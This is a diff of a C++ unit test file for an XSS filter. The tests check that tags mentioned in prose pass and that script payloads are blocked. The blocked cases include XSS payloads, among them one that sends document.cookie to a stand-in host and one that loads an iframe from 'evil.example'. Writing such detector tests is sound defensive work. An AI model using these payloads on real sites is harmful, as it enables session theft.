@@ -292,14 +292,17 @@ TEST(XssJsSink, CallFollowedByCodeOrALineBreakIsBlocked) {
 }
 
 // The bare tag named in prose: what follows cannot be a script body (two plain words side by
-// side are a syntax error), and a bare frame loads nothing. The word "tag" or "element"
-// right after names the tag even at the end of a sentence or a remark.
+// side are a syntax error, as is a binary operator word first: "in", "instanceof"), and a bare
+// frame loads nothing. The word "tag" or "element" right after names the tag even at the end
+// of a sentence or a remark.
 TEST(XssTagMention, BareTagFollowedByProseIsAllowed) {
   for (const char* v : {"How do I escape <script> tags in a template?",
                         "<iframe> embedding is not allowed on our forum, right?",
                         "the <object> element is deprecated here", "How do I escape <script> tags?",
                         "Fix XSS in comments (sanitize <script> tags) and SQLi", "<script> tags",
-                        "strip <iframe> elements."}) {
+                        "strip <iframe> elements.",
+                        // A script cannot open with a binary operator word.
+                        "fix: escape <script> in templates; drop table of contents"}) {
     EXPECT_FALSE(Flagged(InspectQueryValue(v))) << v;
   }
 }
@@ -307,7 +310,8 @@ TEST(XssTagMention, BareTagFollowedByProseIsAllowed) {
 TEST(XssTagMention, BareTagFollowedByCodeIsBlocked) {
   for (const char* v :
        {"<script>alert(1)", "<script>var a = document.cookie", "<script>x in y</script>",
-        "<script> tags;alert(1)", "<script> tags:alert(1)", "<script> tags\nalert(1)", "<script>",
+        "\"><script> in x;alert(1)</script>", "<script> tags;alert(1)", "<script> tags:alert(1)",
+        "<script> tags\nalert(1)", "<script>",
         "<script>new Image().src='//e.example/'+document.cookie</script>",
         "<iframe src=\"https://evil.example/\"> look here"}) {
     Verdict r = InspectQueryValue(v);
